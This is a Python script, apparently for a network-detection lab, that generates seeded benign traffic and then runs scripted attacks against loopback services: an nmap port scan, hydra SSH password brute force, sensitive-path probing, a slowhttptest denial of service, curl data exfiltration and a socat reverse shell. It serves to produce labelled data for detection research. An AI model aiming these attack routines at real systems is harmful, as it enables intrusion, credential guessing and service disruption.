#!/usr/bin/env python3
"""The lab's traffic: benign clients on 127.0.1.x and attacks from 127.0.2.N (standard library
plus the Debian tools lab.sh installs). Every loop is bounded in count and in time; every address
is checked to be in 127.0.0.0/8 before anything is sent.

  traffic.py make-site --dir WWW --seed N        the web server's pages
  traffic.py make-zone --file HOSTS --target IP  the DNS zone lab.test
  traffic.py wait-ready --target IP --ports ...  waits (at most 20 s) for every service
  traffic.py run --phase baseline|later ...      one phase; `later` drifts and adds the attacks

The benign schedule (start times, clients, activities, sizes) is drawn from the seed before
anything runs, so two runs with one seed send the same sessions; thread timing still varies.
"""
import argparse
import concurrent.futures
import csv
import http.client
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from kinds import ATTACKS, require_loopback  # noqa: E402

PAGE_SIZES = [512, 2048, 8192, 32768, 131072, 262144]
ZONE_NAMES = [f"{name}.lab.test" for name in (
    "api", "db", "cache", "auth", "web", "metrics", "logs", "queue", "search", "files",
    "mail", "git", "ci", "registry", "docs", "status", "vault", "proxy", "backup", "ntp")]
SSH_COMMANDS = ["uptime", "cat /proc/loadavg", "ls /", "df -h /", "date", "sleep 1; date", "id"]

# Each phase's benign mix: sessions per second, the share of each activity, and their sizes.
# `later` drifts mildly: a little busier, more redis and ssh, larger pages and values, longer
# keep-alive connections, some names outside the zone, ten clients the baseline never had.
PHASES = {
    "baseline": dict(rate=6.0, weights=dict(http=0.50, dns=0.25, redis=0.20, ssh=0.05),
                     pages=[0.30, 0.30, 0.20, 0.12, 0.06, 0.02], requests=(1, 3),
                     values=(16, 256), commands=(2, 6), unknown_names=0.0, clients=(1, 20)),
    "later": dict(rate=7.5, weights=dict(http=0.45, dns=0.20, redis=0.28, ssh=0.07),
                  pages=[0.20, 0.25, 0.22, 0.17, 0.11, 0.05], requests=(1, 5),
                  values=(32, 1024), commands=(2, 9), unknown_names=0.1, clients=(1, 30)),
}


def parse_ports(text):
    ports = {}
    for item in text.split(","):
        name, _, port = item.partition("=")
        ports[name] = int(port)
    return ports


# ---------------------------------------------------------------------------------------------
# Files for the services

def make_site(directory, seed):
    rng = random.Random(seed)
    os.makedirs(os.path.join(directory, "static"), exist_ok=True)
    os.makedirs(os.path.join(directory, "docs"), exist_ok=True)
    with open(os.path.join(directory, "index.html"), "w") as f:
        f.write("<html><body>lab</body></html>\n" * 20)
    for size in PAGE_SIZES:
        with open(os.path.join(directory, "static", f"{size}.bin"), "wb") as f:
            f.write(rng.randbytes(size))
    for i in range(10):
        with open(os.path.join(directory, "docs", f"page-{i}.html"), "w") as f:
            f.write("<p>" + "lorem ipsum " * rng.randint(50, 800) + "</p>\n")


def make_zone(path, target):
    require_loopback(target)
    with open(path, "w") as f:
        for i, name in enumerate(ZONE_NAMES):
            f.write(f"127.0.3.{10 + i} {name}\n")


# ---------------------------------------------------------------------------------------------
# Minimal protocol clients, each bound to its client address

def dns_query(name, query_id):
    header = struct.pack("!HHHHHH", query_id, 0x0100, 1, 0, 0, 0)
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + question + struct.pack("!HH", 1, 1)


def dns_session(src, target, port, names, rng):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((src, 0))
        s.settimeout(2)
        for name in names:
            s.sendto(dns_query(name, rng.randrange(65536)), (target, port))
            try:
                s.recvfrom(4096)
            except socket.timeout:
                pass


def redis_reply(stream):
    line = stream.readline()
    if not line:
        raise ConnectionError("redis closed the connection")
    if line[:1] == b"$":
        length = int(line[1:])
        if length >= 0:
            stream.read(length + 2)
    elif line[:1] == b"*":
        for _ in range(max(0, int(line[1:]))):
            redis_reply(stream)


def redis_command(*parts):
    out = [b"*%d\r\n" % len(parts)]
    for p in parts:
        p = p if isinstance(p, bytes) else str(p).encode()
        out.append(b"$%d\r\n%s\r\n" % (len(p), p))
    return b"".join(out)


def redis_session(src, target, port, commands):
    with socket.create_connection((target, port), timeout=5, source_address=(src, 0)) as s:
        stream = s.makefile("rb")
        for command in commands:
            s.sendall(redis_command(*command))
            redis_reply(stream)


def http_session(src, target, port, paths, pause):
    conn = http.client.HTTPConnection(target, port, timeout=10, source_address=(src, 0))
    try:
        for i, path in enumerate(paths):
            conn.request("GET", path)
            conn.getresponse().read()
            if i + 1 < len(paths):
                time.sleep(pause)
    finally:
        conn.close()


def ssh_session(src, target, port, key, command):
    subprocess.run(["ssh", "-b", src, "-p", str(port), "-i", key, "-o", "BatchMode=yes",
                    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                    "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", f"root@{target}", command],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=20, check=False)


def wait_ready(target, ports):
    require_loopback(target)
    deadline = time.monotonic() + 20
    pending = dict(ports)
    while pending and time.monotonic() < deadline:
        for name, port in list(pending.items()):
            try:
                if name == "dns":
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                        s.settimeout(0.5)
                        s.sendto(dns_query(ZONE_NAMES[0], 1), (target, port))
                        s.recvfrom(512)
                else:
                    socket.create_connection((target, port), timeout=0.5).close()
                del pending[name]
            except OSError:
                pass
        if pending:
            time.sleep(0.2)
    if pending:
        raise SystemExit(f"lab: services not answering after 20 s: {', '.join(sorted(pending))}")


# ---------------------------------------------------------------------------------------------
# Benign schedule

def benign_schedule(phase, seconds, seed):
    """Every benign session of the phase, drawn from the seed: (start, activity, client, params)."""
    mix = PHASES[phase]
    rng = random.Random(f"{seed}/{phase}/benign")
    kinds, weights = zip(*mix["weights"].items())
    sessions, t = [], 0.0
    while len(sessions) < 100000:
        t += rng.expovariate(mix["rate"])
        if t >= seconds - 2:
            break
        kind = rng.choices(kinds, weights)[0]
        client = f"127.0.1.{rng.randint(*mix['clients'])}"
        if kind == "http":
            count = rng.randint(*mix["requests"])
            paths = []
            for _ in range(count):
                r = rng.random()
                if r < 0.2:
                    paths.append("/index.html")
                elif r < 0.35:
                    paths.append(f"/docs/page-{rng.randrange(10)}.html")
                else:
                    paths.append(f"/static/{rng.choices(PAGE_SIZES, mix['pages'])[0]}.bin")
            params = dict(paths=paths, pause=rng.uniform(0.05, 0.6))
        elif kind == "dns":
            names = []
            for _ in range(rng.randint(1, 3)):
                if rng.random() < mix["unknown_names"]:
                    names.append(f"host-{rng.randrange(1000)}.lab.test")
                else:
                    names.append(rng.choice(ZONE_NAMES))
            params = dict(names=names, rng_seed=rng.randrange(1 << 30))
        elif kind == "redis":
            commands = []
            for _ in range(rng.randint(*mix["commands"])):
                key = f"user:{rng.randrange(200)}"
                r = rng.random()
                if r < 0.45:
                    commands.append(("GET", key))
                elif r < 0.85:
                    commands.append(("SET", key, "v" * rng.randint(*mix["values"])))
                else:
                    commands.append(("INCR", f"counter:{rng.randrange(10)}"))
            params = dict(commands=commands)
        else:
            params = dict(command=rng.choice(SSH_COMMANDS))
        sessions.append((t, kind, client, params))
    return sessions


def run_benign(session, target, ports, key):
    _, kind, client, p = session
    require_loopback(client)
    if kind == "http":
        http_session(client, target, ports["http"], p["paths"], p["pause"])
    elif kind == "dns":
        dns_session(client, target, ports["dns"], p["names"], random.Random(p["rng_seed"]))
    elif kind == "redis":
        redis_session(client, target, ports["redis"], p["commands"])
    else:
        ssh_session(client, target, ports["ssh"], key, p["command"])


# ---------------------------------------------------------------------------------------------
# Attacks (later phase)

PROBE_WORDS = ["admin", "login", "wp-login.php", "wp-admin", ".git/config", ".env", "backup",
               "config.php", "phpmyadmin", "server-status", "api/v1/users", "console", "debug",
               "actuator/health", "cgi-bin/test.cgi", "shell.php", "old", "test", "db.sql",
               "uploads", "private", "secret", "etc/passwd", "manager/html", "robots.txt"]
PASSWORDS = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein", "changeme",
             "welcome", "monkey", "dragon", "master", "abc123", "passw0rd", "123456789", "secret",
             "ubuntu", "raspberry", "default", "P@ssw0rd", "iloveyou", "trustno1", "111111",
             "sunshine", "princess", "football", "shadow", "superman", "hunter2", "pass123"]
SHELL_COMMANDS = ["id", "uname -a", "pwd", "ls -la", "cat /etc/hostname", "ps -e | head -5",
                  "env | wc -l", "ls /tmp | head", "whoami", "cat /proc/version"]


def attack_portscan(address, target, ports, seconds, rng, work, shim):
    first = rng.randint(1, 400)
    port_list = f"{first}-{first + 999},{ports['ssh']},{ports['http']},{ports['redis']}"
    rate = rng.choice([200, 300, 500])
    return subprocess.run(["nmap", "-sS", "-Pn", "-n", "-S", address, "-e", "lo", "--max-retries", "1",
                           "--max-rate", str(rate), "--host-timeout", f"{int(seconds)}s",
                           "-p", port_list, target],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=seconds + 10).returncode


def attack_ssh_bruteforce(address, target, ports, seconds, rng, work, shim):
    words = os.path.join(work, "passwords.txt")
    users = os.path.join(work, "users.txt")
    with open(words, "w") as f:
        f.write("\n".join(rng.sample(PASSWORDS, rng.randint(15, len(PASSWORDS)))) + "\n")
    with open(users, "w") as f:
        f.write("\n".join(["root", "admin", rng.choice(["ubuntu", "pi", "deploy", "git"])]) + "\n")
    env = dict(os.environ, LD_PRELOAD=shim, LAB_BIND_ADDR=address)
    return subprocess.run(["timeout", str(int(seconds)), "hydra", "-I", "-q", "-L", users, "-P", words,
                           "-t", str(rng.choice([2, 4])), "-s", str(ports["ssh"]), "-w", "5",
                           f"ssh://{target}"], env=env, cwd=work,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=seconds + 10).returncode


def attack_http_probe(address, target, ports, seconds, rng, work, shim):
    count = min(400, int(seconds * rng.uniform(8, 15)))
    deadline = time.monotonic() + seconds
    for i in range(count):
        if time.monotonic() > deadline:
            break
        word = rng.choice(PROBE_WORDS)
        path = f"/{word}" if rng.random() < 0.5 else f"/{rng.choice(PROBE_WORDS).split('.')[0]}/{word}"
        try:
            conn = http.client.HTTPConnection(target, ports["http"], timeout=5, source_address=(address, 0))
            conn.request("GET", path, headers={"User-Agent": "Mozilla/5.0 (compatible; probe)"})
            conn.getresponse().read()
            conn.close()
        except OSError:
            pass
        time.sleep(rng.uniform(0.02, 0.12))
    return 0


def attack_slow_http(address, target, ports, seconds, rng, work, shim):
    env = dict(os.environ, LD_PRELOAD=shim, LAB_BIND_ADDR=address)
    connections = rng.choice([40, 60, 80])
    return subprocess.run(["timeout", str(int(seconds) + 5), "slowhttptest", "-H",
                           "-c", str(connections), "-r", "20", "-i", str(rng.choice([3, 4])),
                           "-x", "24", "-p", "3", "-l", str(int(seconds)),
                           "-u", f"http://{target}:{ports['http']}/index.html"],
                          env=env, cwd=work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                          timeout=seconds + 15).returncode


def attack_exfiltration(address, target, ports, seconds, rng, work, shim):
    chunks = rng.randint(2, 3)
    status = 0
    for i in range(chunks):
        size = rng.randint(6, 14) * 1024 * 1024
        path = os.path.join(work, f"exfil-{i}.bin")
        with open(path, "wb") as f:
            f.write(os.urandom(size))
        status |= subprocess.run(["curl", "-s", "-o", os.devnull, "--interface", address, "--limit-rate", "8M",
                                  "-m", str(int(seconds)), "--data-binary", f"@{path}",
                                  f"http://{target}:{ports['http']}/upload"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                 timeout=seconds + 10).returncode
        os.remove(path)
    return status


def attack_reverse_shell(address, target, ports, seconds, rng, work, shim):
    """The attacker listens on its own address; the victim (the service host, 127.0.3.1) connects
    out to it and runs a shell; the attacker types read-only commands a keystroke at a time."""
    port = 4444
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, port))
    listener.listen(1)
    listener.settimeout(10)
    victim = subprocess.Popen(["timeout", str(int(seconds) + 5), "socat",
                               f"TCP:{address}:{port},bind={target}", "EXEC:/bin/sh,stderr"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        conn, _ = listener.accept()
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        conn.settimeout(0.2)
        deadline = time.monotonic() + seconds - 2
        while time.monotonic() < deadline:
            for ch in rng.choice(SHELL_COMMANDS) + "\n":
                conn.sendall(ch.encode())
                time.sleep(rng.uniform(0.05, 0.25))
            think = time.monotonic() + rng.uniform(1.0, 4.0)
            while time.monotonic() < min(think, deadline):
                try:
                    if not conn.recv(65536):
                        break
                except socket.timeout:
                    pass
        conn.sendall(b"exit\n")
        conn.close()
    finally:
        listener.close()
        try:
            victim.wait(timeout=10)
        except subprocess.TimeoutExpired:
            victim.kill()
    return victim.returncode or 0


ATTACK_RUNNERS = {
    "portscan": attack_portscan,
    "ssh-bruteforce": attack_ssh_bruteforce,
    "http-probe": attack_http_probe,
    "slow-http": attack_slow_http,
    "exfiltration": attack_exfiltration,
    "reverse-shell": attack_reverse_shell,
}


def attack_plan(seconds, seed):
    """Each attack's start and length inside the later phase, drawn from the seed: starts spread
    over the first 60% of the phase, each attack over by the phase's last few seconds."""
    rng = random.Random(f"{seed}/attacks")
    plan = []
    for kind in ATTACKS:
        start = rng.uniform(0.05, 0.6) * seconds
        length = max(6.0, min(rng.uniform(0.15, 0.35) * seconds, seconds - start - 3))
        plan.append((start, kind, length, rng.randrange(1 << 30)))
    return sorted(plan)


# ---------------------------------------------------------------------------------------------

def run_phase(args):
    target = require_loopback(args.target)
    ports = parse_ports(args.ports)
    for address in ATTACKS.values():
        require_loopback(address)
    key = os.path.join(args.work, "client_key")
    sessions = benign_schedule(args.phase, args.seconds, args.seed)
    attacks = attack_plan(args.seconds, args.seed) if args.phase == "later" else []
    events, lock = [], threading.Lock()
    failures = {}

    def record(kind, client, start, status, detail=""):
        with lock:
            events.append((kind, client, round(start, 3), round(time.time(), 3), status, detail))

    def benign(session):
        start = time.time()
        try:
            run_benign(session, target, ports, key)
            return
        except (OSError, subprocess.SubprocessError, ConnectionError) as error:
            with lock:
                failures[session[1]] = failures.get(session[1], 0) + 1
            record(session[1], session[2], start, "error", type(error).__name__)

    def attack(item):
        _, kind, length, attack_seed = item
        start = time.time()
        try:
            status = ATTACK_RUNNERS[kind](ATTACKS[kind], target, ports, length,
                                          random.Random(attack_seed), args.work, args.shim)
            record(kind, ATTACKS[kind], start, str(status))
        except (OSError, subprocess.SubprocessError, ConnectionError) as error:
            record(kind, ATTACKS[kind], start, "error", f"{type(error).__name__}: {error}")

    t0 = time.monotonic()
    hard_stop = args.seconds + 60
    with concurrent.futures.ThreadPoolExecutor(max_workers=24) as pool, \
         concurrent.futures.ThreadPoolExecutor(max_workers=len(ATTACKS) + 1) as attackers:
        queue = sorted([(s[0], "benign", s) for s in sessions] + [(a[0], "attack", a) for a in attacks],
                       key=lambda item: item[0])
        futures = []
        for start, what, item in queue:
            delay = start - (time.monotonic() - t0)
            if delay > 0:
                time.sleep(delay)
            if time.monotonic() - t0 > args.seconds:
                break
            futures.append((attackers if what == "attack" else pool).submit(
                attack if what == "attack" else benign, item))
        for future in futures:
            future.result(timeout=max(1.0, hard_stop - (time.monotonic() - t0)))
    with open(args.events, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["kind", "client", "start", "end", "status", "detail"])
        writer.writerows(sorted(events, key=lambda e: e[2]))
    counts = {}
    for s in sessions:
        counts[s[1]] = counts.get(s[1], 0) + 1
    print(f"lab: {args.phase}: {len(sessions)} benign sessions ({', '.join(f'{k} {v}' for k, v in sorted(counts.items()))})"
          + (f", failed: {failures}" if failures else "")
          + (f"; attacks: {', '.join(a[1] for a in attacks)}" if attacks else ""), file=sys.stderr)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("make-site"); p.add_argument("--dir", required=True); p.add_argument("--seed", type=int, required=True)
    p = sub.add_parser("make-zone"); p.add_argument("--file", required=True); p.add_argument("--target", required=True)
    p = sub.add_parser("wait-ready"); p.add_argument("--target", required=True); p.add_argument("--ports", required=True)
    p = sub.add_parser("run")
    p.add_argument("--phase", choices=sorted(PHASES), required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--seed", type=int, required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--ports", required=True)
    p.add_argument("--work", required=True)
    p.add_argument("--shim", required=True)
    p.add_argument("--events", required=True)
    args = parser.parse_args()
    if args.command == "run":
        # A process group of its own, so that lab.sh stops every client and attack tool at once.
        os.setpgid(0, 0)
    if args.command == "make-site":
        make_site(args.dir, args.seed)
    elif args.command == "make-zone":
        make_zone(args.file, args.target)
    elif args.command == "wait-ready":
        wait_ready(args.target, parse_ports(args.ports))
    else:
        if not 10 <= args.seconds <= 3600:
            raise SystemExit(f"lab: --seconds must be between 10 and 3600, got {args.seconds}")
        run_phase(args)


if __name__ == "__main__":
    main()
